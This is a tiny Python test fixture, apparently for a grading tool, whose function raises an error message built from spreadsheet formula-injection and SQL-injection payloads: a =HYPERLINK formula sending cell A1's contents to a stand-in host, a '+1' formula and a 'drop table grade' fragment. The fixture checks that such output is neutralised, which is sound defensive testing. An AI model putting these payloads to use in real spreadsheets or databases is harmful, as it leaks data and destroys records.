# Messages that are formulas for a spreadsheet.
#
# /// expect
# double = "failed: =HYPERLINK"
# ///

# %% double
def double(x):
    raise ValueError('=HYPERLINK("http://a.b?"&A1,"click")\n+1,"quoted",\'; drop table grade')
